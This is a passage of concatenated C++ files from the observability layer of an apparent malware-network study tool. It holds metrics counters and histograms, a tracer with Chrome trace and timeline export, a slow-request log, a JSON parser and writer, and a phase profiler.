    }
    if (!first) os << ',';
    first = false;
    // One process lane per node, named after its label.
    os << "{\"name\":\"process_name\",\"ph\":\"M\",\"pid\":" << node
       << ",\"args\":{\"name\":\"" << json_escape(label) << "\"}}";
    for (const auto& ev : events->array) {
      if (ev.type != json::Value::Type::kObject) return std::nullopt;
      json::Value restamped = ev;
      json::Value pid;
      pid.type = json::Value::Type::kNumber;
      pid.number = static_cast<double>(node);
      restamped.object["pid"] = pid;
      os << ',' << json::write(restamped);
    }
  }
  os << "],\"displayTimeUnit\":\"ms\"}\n";
  return os.str();
}

void write_timeline(std::ostream& os, const std::vector<TraceEvent>& events) {
  std::vector<const TraceEvent*> sorted;
  sorted.reserve(events.size());
  for (const auto& ev : events) sorted.push_back(&ev);
  std::stable_sort(sorted.begin(), sorted.end(),
                   [](const TraceEvent* a, const TraceEvent* b) {
                     return a->sim_us != b->sim_us ? a->sim_us < b->sim_us
                                                  : a->pid < b->pid;
                   });
  for (const auto* ev : sorted) {
    os << util::to_string(util::SimTime{ev->sim_us}) << "  shard" << ev->pid
       << "  [" << ev->category << "] " << ev->name;
    if (ev->phase == 'X') {
      os << " (" << util::to_string(util::Duration{ev->dur_us}) << ')';
    }
    if (!ev->args_json.empty()) os << "  {" << ev->args_json << '}';
    os << '\n';
  }
}

}  // namespace malnet::obs
