// malnet::obs — bounded slow-request log.
//
// Keeps the N slowest requests at or above a latency threshold, with
// enough context (op, peer, bytes, trace id) to chase one down after the
// fact. Thread-safe: io threads record, the admin endpoint reads. The
// bound is on *retained* entries, not on traffic — record() is a mutex
// hold plus at most one heap sift, and requests under the threshold only
// pay the threshold compare.
#pragma once

#include <cstdint>
#include <mutex>
#include <string>
#include <vector>

namespace malnet::obs {

struct SlowEntry {
  std::string op;       // request kind, e.g. "query:count" or "sync:put"
  std::string peer;     // remote address, when known
  std::int64_t latency_us = 0;
  std::uint64_t bytes = 0;          // response payload size
  std::uint64_t trace_id = 0;       // 0 = untraced request
  std::uint64_t span_id = 0;
  std::int64_t wall_us = 0;         // completion time, epoch microseconds
};

class SlowLog {
 public:
  explicit SlowLog(std::size_t capacity = 32, std::int64_t threshold_us = 10'000);

  void set_threshold(std::int64_t threshold_us);
  [[nodiscard]] std::int64_t threshold_us() const;

  /// Re-bounds the log (evicting the fastest retained entries if the new
  /// capacity is smaller) and sets the threshold.
  void configure(std::size_t capacity, std::int64_t threshold_us);

  /// Records `e` if it is slow enough: at or above the threshold, and —
  /// once the log is full — slower than the current fastest retained entry
  /// (which it evicts).
  void record(SlowEntry e);

  /// Retained entries, slowest first; ties break newest first.
  [[nodiscard]] std::vector<SlowEntry> entries() const;

  /// Total record() calls that met the threshold (including evicted ones).
  [[nodiscard]] std::uint64_t seen() const;

  /// One line per entry, slowest first — the /slowz body.
  [[nodiscard]] std::string render_text() const;

 private:
  mutable std::mutex mu_;
  std::size_t capacity_;
  std::int64_t threshold_us_;
  std::uint64_t seen_ = 0;
  std::uint64_t next_seq_ = 0;
  // Min-heap on (latency, seq) so the cheapest retained entry is O(1) to
  // find and evict.
  std::vector<std::pair<std::uint64_t, SlowEntry>> heap_;  // first = seq
};

}  // namespace malnet::obs
