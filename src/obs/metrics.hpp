// malnet::obs — the metrics registry.
//
// Named counters, gauges and fixed-bucket histograms with cheap thread-safe
// increments (relaxed atomics), a deterministic snapshot type, and an
// order-independent merge so ParallelStudy can aggregate per-shard
// registries without breaking the jobs-invariance contract.
//
// Determinism rule (DESIGN.md §10): only sim-derived integer quantities go
// into the registry — never wall-clock. The snapshot JSON of a merged study
// is then a pure function of (config, shards), byte-identical for any
// worker count. Wall-clock lives in obs::ProfileSnapshot and the tracer,
// which make no such promise.
//
// Hot-path usage: Registry::counter() takes a mutex and a map lookup, so
// callers on hot paths cache the returned reference (instrument pointers
// are stable for the registry's lifetime) and pay only a relaxed
// fetch_add per increment.
#pragma once

#include <atomic>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace malnet::obs {

/// Monotonic event count. inc() is safe from any thread.
class Counter {
 public:
  void inc(std::uint64_t n = 1) { v_.fetch_add(n, std::memory_order_relaxed); }
  [[nodiscard]] std::uint64_t value() const {
    return v_.load(std::memory_order_relaxed);
  }

 private:
  std::atomic<std::uint64_t> v_{0};
};

/// Last-written level (active runs, queue depth at harvest, ...).
class Gauge {
 public:
  void set(std::int64_t v) { v_.store(v, std::memory_order_relaxed); }
  void add(std::int64_t d) { v_.fetch_add(d, std::memory_order_relaxed); }
  [[nodiscard]] std::int64_t value() const {
    return v_.load(std::memory_order_relaxed);
  }

 private:
  std::atomic<std::int64_t> v_{0};
};

/// Fixed-bucket integer histogram: `bounds` are ascending inclusive upper
/// bounds; one extra overflow bucket catches everything above the last
/// bound. record() is a branchless-ish linear scan (bucket counts are
/// small and fixed) plus two relaxed adds — no allocation, no lock.
class Histogram {
 public:
  explicit Histogram(std::vector<std::int64_t> bounds);

  void record(std::int64_t v);

  [[nodiscard]] const std::vector<std::int64_t>& bounds() const { return bounds_; }
  [[nodiscard]] std::uint64_t bucket(std::size_t i) const {
    return counts_[i].load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::size_t bucket_count() const { return counts_.size(); }
  [[nodiscard]] std::int64_t sum() const {
    return sum_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t count() const {
    return count_.load(std::memory_order_relaxed);
  }

 private:
  std::vector<std::int64_t> bounds_;
  std::vector<std::atomic<std::uint64_t>> counts_;  // bounds_.size() + 1
  std::atomic<std::int64_t> sum_{0};
  std::atomic<std::uint64_t> count_{0};
};

struct HistogramSnapshot {
  std::vector<std::int64_t> bounds;
  std::vector<std::uint64_t> counts;  // bounds.size() + 1 (overflow last)
  std::int64_t sum = 0;
  std::uint64_t count = 0;

  /// Estimated q-quantile (q in [0,1], clamped) by linear interpolation
  /// inside the bucket holding the target rank. The first bucket's lower
  /// edge is 0 (or bounds[0] itself when negative — we cannot see below
  /// it); the overflow bucket has no upper edge, so estimates there clamp
  /// to the last finite bound. nullopt when the histogram is empty.
  [[nodiscard]] std::optional<double> quantile(double q) const;
};

/// A point-in-time copy of a registry. Plain data, deterministic JSON
/// rendering (keys sorted by std::map), and a commutative + associative
/// merge: counters/gauges add key-wise, histograms add bucket-wise
/// (identical bounds required).
struct MetricsSnapshot {
  std::map<std::string, std::uint64_t> counters;
  std::map<std::string, std::int64_t> gauges;
  std::map<std::string, HistogramSnapshot> histograms;

  /// Folds `other` in. Throws std::invalid_argument if a histogram name
  /// collides with different bucket bounds.
  void merge(const MetricsSnapshot& other);

  /// Deterministic compact JSON:
  /// {"counters":{...},"gauges":{...},"histograms":{"h":{"bounds":[...],
  ///  "counts":[...],"sum":N,"count":N}}}
  [[nodiscard]] std::string to_json() const;

  /// Estimated quantile of the named histogram (see
  /// HistogramSnapshot::quantile). nullopt when the name is unknown or the
  /// histogram is empty.
  [[nodiscard]] std::optional<double> quantile(std::string_view name,
                                               double q) const;
};

/// Named-instrument registry. Creation is mutex-guarded; returned
/// references stay valid (and lock-free to update) for the registry's
/// lifetime.
class Registry {
 public:
  Registry() = default;
  Registry(const Registry&) = delete;
  Registry& operator=(const Registry&) = delete;

  /// Restricts instrument names to a dotted prefix ("store.", "serve.",
  /// ...). Registries that feed a merged snapshot each claim their own
  /// namespace so families from different registries can never collide —
  /// a collision used to silently shadow one side's values in the merged
  /// JSON. Creation with a non-matching name throws std::invalid_argument.
  void set_namespace(std::string prefix);
  [[nodiscard]] std::string name_namespace() const;

  [[nodiscard]] Counter& counter(std::string_view name);
  [[nodiscard]] Gauge& gauge(std::string_view name);
  /// Returns the existing histogram if `name` was already registered (the
  /// first registration's bounds win).
  [[nodiscard]] Histogram& histogram(std::string_view name,
                                     std::vector<std::int64_t> bounds);

  [[nodiscard]] MetricsSnapshot snapshot() const;

 private:
  void check_name_locked(std::string_view name) const;

  mutable std::mutex mu_;
  std::string namespace_;
  std::map<std::string, std::unique_ptr<Counter>, std::less<>> counters_;
  std::map<std::string, std::unique_ptr<Gauge>, std::less<>> gauges_;
  std::map<std::string, std::unique_ptr<Histogram>, std::less<>> histograms_;
};

}  // namespace malnet::obs
