#include "obs/profile.hpp"

#include <cstdio>
#include <sstream>

namespace malnet::obs {

const char* to_string(Phase p) {
  switch (p) {
    case Phase::kOther: return "other";
    case Phase::kCollect: return "collect";
    case Phase::kWorld: return "world";
    case Phase::kSandbox: return "sandbox";
    case Phase::kProbe: return "probe";
    case Phase::kLiveWatch: return "live-watch";
    case Phase::kCampaign: return "campaign";
    case Phase::kFinalize: return "finalize";
  }
  return "?";
}

void ProfileSnapshot::merge(const ProfileSnapshot& other) {
  for (std::size_t i = 0; i < kPhaseCount; ++i) phases[i].merge(other.phases[i]);
}

std::uint64_t ProfileSnapshot::total_wall_ns() const {
  std::uint64_t total = 0;
  for (const auto& s : phases) total += s.wall_ns;
  return total;
}

std::uint64_t ProfileSnapshot::total_sim_events() const {
  std::uint64_t total = 0;
  for (const auto& s : phases) total += s.sim_events;
  return total;
}

std::string ProfileSnapshot::render_table() const {
  const std::uint64_t wall_total = total_wall_ns();
  std::string out;
  char line[160];
  std::snprintf(line, sizeof(line), "%-12s %12s %7s %12s %12s %8s\n", "phase",
                "wall (ms)", "wall %", "sim events", "ops", "entries");
  out += line;
  for (std::size_t i = 0; i < kPhaseCount; ++i) {
    const PhaseStats& s = phases[i];
    if (s.wall_ns == 0 && s.sim_events == 0 && s.ops == 0 && s.entries == 0) {
      continue;
    }
    const double pct = wall_total == 0
                           ? 0.0
                           : 100.0 * static_cast<double>(s.wall_ns) /
                                 static_cast<double>(wall_total);
    std::snprintf(line, sizeof(line), "%-12s %12.2f %6.1f%% %12llu %12llu %8llu\n",
                  to_string(static_cast<Phase>(i)),
                  static_cast<double>(s.wall_ns) / 1e6, pct,
                  static_cast<unsigned long long>(s.sim_events),
                  static_cast<unsigned long long>(s.ops),
                  static_cast<unsigned long long>(s.entries));
    out += line;
  }
  std::snprintf(line, sizeof(line), "%-12s %12.2f %6.1f%% %12llu\n", "total",
                static_cast<double>(wall_total) / 1e6, wall_total ? 100.0 : 0.0,
                static_cast<unsigned long long>(total_sim_events()));
  out += line;
  return out;
}

std::string ProfileSnapshot::to_json() const {
  std::ostringstream os;
  os << "{\"phases\":{";
  bool first = true;
  for (std::size_t i = 0; i < kPhaseCount; ++i) {
    const PhaseStats& s = phases[i];
    if (!first) os << ',';
    first = false;
    os << '"' << to_string(static_cast<Phase>(i)) << "\":{\"wall_ns\":" << s.wall_ns
       << ",\"sim_events\":" << s.sim_events << ",\"ops\":" << s.ops
       << ",\"entries\":" << s.entries << '}';
  }
  os << "}}";
  return os.str();
}

}  // namespace malnet::obs
