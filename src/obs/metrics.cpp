#include "obs/metrics.hpp"

#include <algorithm>
#include <sstream>
#include <stdexcept>

namespace malnet::obs {

Histogram::Histogram(std::vector<std::int64_t> bounds)
    : bounds_(std::move(bounds)), counts_(bounds_.size() + 1) {
  if (!std::is_sorted(bounds_.begin(), bounds_.end()) ||
      std::adjacent_find(bounds_.begin(), bounds_.end()) != bounds_.end()) {
    throw std::invalid_argument("Histogram: bounds must be strictly ascending");
  }
}

void Histogram::record(std::int64_t v) {
  std::size_t i = 0;
  while (i < bounds_.size() && v > bounds_[i]) ++i;
  counts_[i].fetch_add(1, std::memory_order_relaxed);
  sum_.fetch_add(v, std::memory_order_relaxed);
  count_.fetch_add(1, std::memory_order_relaxed);
}

std::optional<double> HistogramSnapshot::quantile(double q) const {
  if (count == 0 || counts.empty()) return std::nullopt;
  q = std::min(1.0, std::max(0.0, q));
  // Target rank in (0, count]; q == 0 still lands in the first non-empty
  // bucket instead of an imaginary rank 0.
  const double target = std::max(1.0, q * static_cast<double>(count));
  std::uint64_t before = 0;
  std::size_t i = 0;
  for (; i < counts.size(); ++i) {
    if (static_cast<double>(before + counts[i]) >= target) break;
    before += counts[i];
  }
  if (i >= counts.size()) i = counts.size() - 1;  // fp-rounding backstop
  const bool overflow = i >= bounds.size();
  if (overflow) {
    // No upper edge to interpolate toward: clamp to the last finite bound
    // (or 0 when the histogram has only the overflow bucket).
    return bounds.empty() ? 0.0 : static_cast<double>(bounds.back());
  }
  const double upper = static_cast<double>(bounds[i]);
  double lower = i > 0 ? static_cast<double>(bounds[i - 1]) : 0.0;
  if (lower > upper) lower = upper;  // all-negative first bound
  const double in_bucket = static_cast<double>(counts[i]);
  if (in_bucket <= 0.0) return upper;
  const double frac = (target - static_cast<double>(before)) / in_bucket;
  return lower + (upper - lower) * std::min(1.0, std::max(0.0, frac));
}

void MetricsSnapshot::merge(const MetricsSnapshot& other) {
  for (const auto& [name, v] : other.counters) counters[name] += v;
  for (const auto& [name, v] : other.gauges) gauges[name] += v;
  for (const auto& [name, h] : other.histograms) {
    auto [it, inserted] = histograms.try_emplace(name, h);
    if (inserted) continue;
    HistogramSnapshot& dst = it->second;
    if (dst.bounds != h.bounds) {
      throw std::invalid_argument("MetricsSnapshot::merge: histogram '" + name +
                                  "' has mismatched bounds");
    }
    for (std::size_t i = 0; i < dst.counts.size(); ++i) dst.counts[i] += h.counts[i];
    dst.sum += h.sum;
    dst.count += h.count;
  }
}

namespace {

void append_json_string(std::ostringstream& os, std::string_view s) {
  os << '"';
  for (const char c : s) {
    switch (c) {
      case '"': os << "\\\""; break;
      case '\\': os << "\\\\"; break;
      case '\n': os << "\\n"; break;
      case '\t': os << "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          static const char* hex = "0123456789abcdef";
          os << "\\u00" << hex[(c >> 4) & 0xF] << hex[c & 0xF];
        } else {
          os << c;
        }
    }
  }
  os << '"';
}

template <typename Map, typename Fn>
void append_json_object(std::ostringstream& os, const Map& map, Fn value_fn) {
  os << '{';
  bool first = true;
  for (const auto& [name, v] : map) {
    if (!first) os << ',';
    first = false;
    append_json_string(os, name);
    os << ':';
    value_fn(v);
  }
  os << '}';
}

template <typename T>
void append_json_array(std::ostringstream& os, const std::vector<T>& xs) {
  os << '[';
  for (std::size_t i = 0; i < xs.size(); ++i) {
    if (i > 0) os << ',';
    os << xs[i];
  }
  os << ']';
}

}  // namespace

std::string MetricsSnapshot::to_json() const {
  std::ostringstream os;
  os << "{\"counters\":";
  append_json_object(os, counters, [&os](std::uint64_t v) { os << v; });
  os << ",\"gauges\":";
  append_json_object(os, gauges, [&os](std::int64_t v) { os << v; });
  os << ",\"histograms\":";
  append_json_object(os, histograms, [&os](const HistogramSnapshot& h) {
    os << "{\"bounds\":";
    append_json_array(os, h.bounds);
    os << ",\"counts\":";
    append_json_array(os, h.counts);
    os << ",\"sum\":" << h.sum << ",\"count\":" << h.count << '}';
  });
  os << '}';
  return os.str();
}

std::optional<double> MetricsSnapshot::quantile(std::string_view name,
                                                double q) const {
  const auto it = histograms.find(std::string(name));
  if (it == histograms.end()) return std::nullopt;
  return it->second.quantile(q);
}

void Registry::set_namespace(std::string prefix) {
  std::lock_guard<std::mutex> lock(mu_);
  namespace_ = std::move(prefix);
  // Instruments registered before the namespace was claimed must already
  // conform — otherwise the guarantee is retroactively false.
  for (const auto& kv : counters_) check_name_locked(kv.first);
  for (const auto& kv : gauges_) check_name_locked(kv.first);
  for (const auto& kv : histograms_) check_name_locked(kv.first);
}

std::string Registry::name_namespace() const {
  std::lock_guard<std::mutex> lock(mu_);
  return namespace_;
}

void Registry::check_name_locked(std::string_view name) const {
  if (namespace_.empty()) return;
  if (name.substr(0, namespace_.size()) == namespace_) return;
  throw std::invalid_argument("Registry: instrument '" + std::string(name) +
                              "' outside namespace '" + namespace_ + "'");
}

Counter& Registry::counter(std::string_view name) {
  std::lock_guard<std::mutex> lock(mu_);
  check_name_locked(name);
  const auto it = counters_.find(name);
  if (it != counters_.end()) return *it->second;
  return *counters_.emplace(std::string(name), std::make_unique<Counter>())
              .first->second;
}

Gauge& Registry::gauge(std::string_view name) {
  std::lock_guard<std::mutex> lock(mu_);
  check_name_locked(name);
  const auto it = gauges_.find(name);
  if (it != gauges_.end()) return *it->second;
  return *gauges_.emplace(std::string(name), std::make_unique<Gauge>())
              .first->second;
}

Histogram& Registry::histogram(std::string_view name,
                               std::vector<std::int64_t> bounds) {
  std::lock_guard<std::mutex> lock(mu_);
  check_name_locked(name);
  const auto it = histograms_.find(name);
  if (it != histograms_.end()) return *it->second;
  return *histograms_
              .emplace(std::string(name),
                       std::make_unique<Histogram>(std::move(bounds)))
              .first->second;
}

MetricsSnapshot Registry::snapshot() const {
  std::lock_guard<std::mutex> lock(mu_);
  MetricsSnapshot snap;
  for (const auto& [name, c] : counters_) snap.counters[name] = c->value();
  for (const auto& [name, g] : gauges_) snap.gauges[name] = g->value();
  for (const auto& [name, h] : histograms_) {
    HistogramSnapshot hs;
    hs.bounds = h->bounds();
    hs.counts.resize(h->bucket_count());
    for (std::size_t i = 0; i < hs.counts.size(); ++i) hs.counts[i] = h->bucket(i);
    hs.sum = h->sum();
    hs.count = h->count();
    snap.histograms.emplace(name, std::move(hs));
  }
  return snap;
}

}  // namespace malnet::obs
