// malnet::obs — umbrella for the observability layer: one Observer bundles
// the metrics registry and the sim-time tracer. Each Pipeline (= one shard)
// owns its own Observer, so instruments are updated from a single thread
// and per-shard snapshots merge deterministically in shard order
// (see core::ParallelStudy).
#pragma once

#include "obs/metrics.hpp"
#include "obs/profile.hpp"
#include "obs/trace.hpp"

namespace malnet::obs {

struct Observer {
  Registry registry;
  Tracer tracer;
};

}  // namespace malnet::obs
