#include "obs/json.hpp"

#include <cctype>
#include <cstdio>
#include <cstdlib>

namespace malnet::obs::json {

namespace {

class Parser {
 public:
  explicit Parser(std::string_view text) : text_(text) {}

  std::optional<Value> run(std::size_t* error_offset = nullptr) {
    skip_ws();
    Value v;
    bool ok = parse_value(v);
    if (ok) {
      skip_ws();
      ok = pos_ == text_.size();  // trailing garbage otherwise
    }
    if (!ok) {
      // pos_ sits at (or just past) the byte that broke the grammar: the
      // recursive-descent helpers bail without rewinding.
      if (error_offset != nullptr) *error_offset = std::min(pos_, text_.size());
      return std::nullopt;
    }
    return v;
  }

 private:
  [[nodiscard]] bool eof() const { return pos_ >= text_.size(); }
  [[nodiscard]] char peek() const { return text_[pos_]; }
  char take() { return text_[pos_++]; }
  bool consume(char c) {
    if (eof() || peek() != c) return false;
    ++pos_;
    return true;
  }
  void skip_ws() {
    while (!eof() && (peek() == ' ' || peek() == '\t' || peek() == '\n' ||
                      peek() == '\r')) {
      ++pos_;
    }
  }
  bool literal(std::string_view word) {
    if (text_.substr(pos_, word.size()) != word) return false;
    pos_ += word.size();
    return true;
  }

  bool parse_value(Value& out) {
    if (eof()) return false;
    switch (peek()) {
      case '{': return parse_object(out);
      case '[': return parse_array(out);
      case '"':
        out.type = Value::Type::kString;
        return parse_string(out.str);
      case 't':
        out.type = Value::Type::kBool;
        out.boolean = true;
        return literal("true");
      case 'f':
        out.type = Value::Type::kBool;
        out.boolean = false;
        return literal("false");
      case 'n':
        out.type = Value::Type::kNull;
        return literal("null");
      default: return parse_number(out);
    }
  }

  bool parse_object(Value& out) {
    out.type = Value::Type::kObject;
    if (!consume('{')) return false;
    skip_ws();
    if (consume('}')) return true;
    while (true) {
      skip_ws();
      std::string key;
      if (!parse_string(key)) return false;
      skip_ws();
      if (!consume(':')) return false;
      skip_ws();
      Value member;
      if (!parse_value(member)) return false;
      out.object.emplace(std::move(key), std::move(member));
      skip_ws();
      if (consume(',')) continue;
      return consume('}');
    }
  }

  bool parse_array(Value& out) {
    out.type = Value::Type::kArray;
    if (!consume('[')) return false;
    skip_ws();
    if (consume(']')) return true;
    while (true) {
      skip_ws();
      Value element;
      if (!parse_value(element)) return false;
      out.array.push_back(std::move(element));
      skip_ws();
      if (consume(',')) continue;
      return consume(']');
    }
  }

  bool parse_string(std::string& out) {
    if (!consume('"')) return false;
    while (!eof()) {
      const char c = take();
      if (c == '"') return true;
      if (c == '\\') {
        if (eof()) return false;
        const char esc = take();
        switch (esc) {
          case '"': out += '"'; break;
          case '\\': out += '\\'; break;
          case '/': out += '/'; break;
          case 'b': out += '\b'; break;
          case 'f': out += '\f'; break;
          case 'n': out += '\n'; break;
          case 'r': out += '\r'; break;
          case 't': out += '\t'; break;
          case 'u': {
            // Preserved verbatim (no surrogate decoding needed for the
            // ASCII content the obs layer emits).
            if (pos_ + 4 > text_.size()) return false;
            out += "\\u";
            for (int i = 0; i < 4; ++i) {
              const char h = take();
              if (std::isxdigit(static_cast<unsigned char>(h)) == 0) return false;
              out += h;
            }
            break;
          }
          default: return false;
        }
      } else {
        out += c;
      }
    }
    return false;  // unterminated
  }

  bool parse_number(Value& out) {
    const std::size_t start = pos_;
    if (!eof() && peek() == '-') ++pos_;
    while (!eof() && std::isdigit(static_cast<unsigned char>(peek())) != 0) ++pos_;
    if (!eof() && peek() == '.') {
      ++pos_;
      while (!eof() && std::isdigit(static_cast<unsigned char>(peek())) != 0) ++pos_;
    }
    if (!eof() && (peek() == 'e' || peek() == 'E')) {
      ++pos_;
      if (!eof() && (peek() == '+' || peek() == '-')) ++pos_;
      while (!eof() && std::isdigit(static_cast<unsigned char>(peek())) != 0) ++pos_;
    }
    if (pos_ == start) return false;
    const std::string token(text_.substr(start, pos_ - start));
    char* end = nullptr;
    out.number = std::strtod(token.c_str(), &end);
    if (end == nullptr || *end != '\0') return false;
    out.type = Value::Type::kNumber;
    return true;
  }

  std::string_view text_;
  std::size_t pos_ = 0;
};

}  // namespace

const Value* Value::find(std::string_view key) const {
  if (type != Type::kObject) return nullptr;
  const auto it = object.find(std::string(key));
  return it == object.end() ? nullptr : &it->second;
}

const Value* Value::at_path(std::string_view dotted) const {
  if (dotted.empty()) return this;
  // Full-name match first: metric names themselves contain dots
  // ("net.packets_sent"), so the longest tail that names a member wins.
  if (const Value* direct = find(dotted)) return direct;
  const std::size_t dot = dotted.find('.');
  if (dot == std::string_view::npos) return nullptr;
  const Value* head = find(dotted.substr(0, dot));
  return head == nullptr ? nullptr : head->at_path(dotted.substr(dot + 1));
}

std::optional<Value> parse(std::string_view text) {
  return Parser(text).run();
}

std::optional<Value> parse(std::string_view text, std::size_t* error_offset) {
  return Parser(text).run(error_offset);
}

namespace {

void write_string(std::string& out, const std::string& s) {
  out += '"';
  for (const char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      case '\b': out += "\\b"; break;
      case '\f': out += "\\f"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          static const char* hex = "0123456789abcdef";
          out += "\\u00";
          out += hex[(c >> 4) & 0xF];
          out += hex[c & 0xF];
        } else {
          out += c;
        }
    }
  }
  out += '"';
}

void write_number(std::string& out, double v) {
  char buf[32];
  if (v == static_cast<double>(static_cast<long long>(v)) &&
      v >= -9.0e15 && v <= 9.0e15) {
    std::snprintf(buf, sizeof buf, "%lld", static_cast<long long>(v));
  } else {
    std::snprintf(buf, sizeof buf, "%.17g", v);
  }
  out += buf;
}

void write_value(std::string& out, const Value& v) {
  switch (v.type) {
    case Value::Type::kNull: out += "null"; break;
    case Value::Type::kBool: out += v.boolean ? "true" : "false"; break;
    case Value::Type::kNumber: write_number(out, v.number); break;
    case Value::Type::kString: write_string(out, v.str); break;
    case Value::Type::kArray: {
      out += '[';
      for (std::size_t i = 0; i < v.array.size(); ++i) {
        if (i > 0) out += ',';
        write_value(out, v.array[i]);
      }
      out += ']';
      break;
    }
    case Value::Type::kObject: {
      out += '{';
      bool first = true;
      for (const auto& [key, member] : v.object) {
        if (!first) out += ',';
        first = false;
        write_string(out, key);
        out += ':';
        write_value(out, member);
      }
      out += '}';
      break;
    }
  }
}

}  // namespace

std::string write(const Value& value) {
  std::string out;
  write_value(out, value);
  return out;
}

}  // namespace malnet::obs::json
