// malnet::obs — the sim-time tracer.
//
// Lightweight span/event records (sample analysed, C2 probe, live run,
// DDoS detection, probe-campaign round, ...) stamped with both simulated
// time and wall-clock, exportable as Chrome trace_event JSON (open in
// chrome://tracing or https://ui.perfetto.dev) and as a plain-text
// timeline.
//
// The Chrome export maps simulated microseconds to the "ts"/"dur" fields,
// the shard index to "pid" and the event category to "tid", so a sharded
// study renders as one process lane per shard with per-subsystem tracks.
// Wall-clock is carried in args ("wall_us") — it is informational and NOT
// covered by the determinism contract (see obs/metrics.hpp).
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <iosfwd>
#include <mutex>
#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

namespace malnet::obs {

/// Current wall-clock, epoch microseconds (system_clock).
[[nodiscard]] std::int64_t wall_now_us();

/// "0x" + 16 lowercase hex digits — the rendering for trace/span ids.
[[nodiscard]] std::string hex_id(std::uint64_t v);

struct TraceEvent {
  std::string name;      // "sandbox:observe", "campaign-round", ...
  std::string category;  // track: "sandbox", "pipeline", "campaign", ...
  char phase = 'i';      // 'X' = complete (span), 'i' = instant
  char clock = 's';      // 's' = sim-time span, 'w' = wall-clock span
  std::int64_t sim_us = 0;   // simulated start time ('s' events)
  std::int64_t dur_us = 0;   // duration ('X' only; sim or wall per `clock`)
  std::int64_t wall_us = 0;  // wall-clock: record time ('s') / start ('w')
  int pid = 0;               // shard index (set by the study merge)
  std::uint64_t trace_id = 0;  // cross-node request correlation (0 = none)
  std::uint64_t span_id = 0;
  /// Extra fields, pre-rendered as the *inside* of a JSON object, e.g.
  /// "\"packets\":12,\"mode\":\"observe\"". Empty means no args.
  std::string args_json;
};

/// Per-pipeline (single-threaded) event recorder. Disabled by default so
/// untraced runs pay one branch per record call and buffer nothing.
class Tracer {
 public:
  Tracer() = default;
  Tracer(const Tracer&) = delete;
  Tracer& operator=(const Tracer&) = delete;

  void set_enabled(bool on) { enabled_ = on; }
  [[nodiscard]] bool enabled() const { return enabled_; }

  /// The tracer reads simulated time through this hook (set by the owning
  /// pipeline to its scheduler's clock). Unset == sim time 0.
  void set_sim_clock(std::function<std::int64_t()> clock) {
    sim_clock_ = std::move(clock);
  }
  [[nodiscard]] std::int64_t now_sim_us() const {
    return sim_clock_ ? sim_clock_() : 0;
  }

  /// Buffered-event cap; once hit, further events are counted as dropped
  /// instead of buffered (year-long traced studies stay bounded).
  void set_capacity(std::size_t cap) { cap_ = cap; }
  [[nodiscard]] std::uint64_t dropped() const { return dropped_; }

  /// Records an instant event at the current sim time.
  void instant(std::string name, std::string category, std::string args_json = {});

  /// Records a span from `start_sim_us` to the current sim time.
  void complete(std::string name, std::string category, std::int64_t start_sim_us,
                std::string args_json = {});

  /// Records a wall-clock span from `start_wall_us` (see wall_now_us())
  /// to now. Wall spans sit outside the determinism contract; the Chrome
  /// export places them on the wall timeline (`clock == 'w'`).
  void wall_complete(std::string name, std::string category,
                     std::int64_t start_wall_us, std::string args_json = {});

  [[nodiscard]] const std::vector<TraceEvent>& events() const { return events_; }
  /// Moves the buffer out (used at end-of-run to hand events to results).
  [[nodiscard]] std::vector<TraceEvent> take();

 private:
  void push(TraceEvent ev);

  bool enabled_ = false;
  std::function<std::int64_t()> sim_clock_;
  std::vector<TraceEvent> events_;
  std::size_t cap_ = 1u << 20;
  std::uint64_t dropped_ = 0;
};

/// Thread-safe bounded span buffer for multi-threaded servers: io threads
/// record() wall-clock spans, the admin endpoint snapshots them. Disabled
/// recorders take no lock and buffer nothing.
class SpanRecorder {
 public:
  explicit SpanRecorder(std::size_t capacity = 1u << 16);
  SpanRecorder(const SpanRecorder&) = delete;
  SpanRecorder& operator=(const SpanRecorder&) = delete;

  void set_enabled(bool on) { enabled_.store(on, std::memory_order_relaxed); }
  [[nodiscard]] bool enabled() const {
    return enabled_.load(std::memory_order_relaxed);
  }

  /// Records a wall-clock span; no-op while disabled, counted as dropped
  /// once the capacity is hit.
  void span(std::string name, std::string category, std::int64_t start_wall_us,
            std::int64_t dur_us, std::uint64_t trace_id, std::uint64_t span_id,
            std::string args_json = {});

  [[nodiscard]] std::vector<TraceEvent> snapshot() const;
  [[nodiscard]] std::uint64_t dropped() const;

 private:
  std::atomic<bool> enabled_{false};
  mutable std::mutex mu_;
  std::size_t capacity_;
  std::vector<TraceEvent> events_;
  std::uint64_t dropped_ = 0;
};

/// Chrome trace_event JSON ({"traceEvents":[...]}). Events are written in
/// the order given; Chrome/Perfetto sort by ts themselves.
void write_chrome_trace(std::ostream& os, const std::vector<TraceEvent>& events);

/// Same document as a string (convenience for the admin endpoint).
[[nodiscard]] std::string chrome_trace_json(const std::vector<TraceEvent>& events);

/// Merges Chrome trace documents from several processes into one: node i's
/// events are re-stamped with pid=i and a process_name metadata event
/// carrying the node label, so a cross-node request renders as one trace
/// with one lane per process. Returns nullopt if any document fails to
/// parse or lacks a traceEvents array.
[[nodiscard]] std::optional<std::string> merge_chrome_traces(
    const std::vector<std::pair<std::string, std::string>>& node_docs);

/// Human-readable timeline, one line per event, sorted by (sim time, pid).
void write_timeline(std::ostream& os, const std::vector<TraceEvent>& events);

/// JSON string escaping (shared with the exporters; exposed for reuse).
[[nodiscard]] std::string json_escape(std::string_view s);

}  // namespace malnet::obs
