// malnet::obs — Prometheus text exposition.
//
// Renders a MetricsSnapshot (plus optional SnapshotRing windows) in the
// Prometheus text format, version 0.0.4. Dotted malnet names map onto the
// exposition charset ("serve.requests" → "malnet_serve_requests"); label
// values are escaped per the spec. Output order is deterministic: the
// snapshot maps are sorted, and windows render in the order given.
#pragma once

#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "obs/metrics.hpp"
#include "obs/window.hpp"

namespace malnet::obs {

/// Maps a dotted metric name into [a-zA-Z_:][a-zA-Z0-9_:]* — invalid
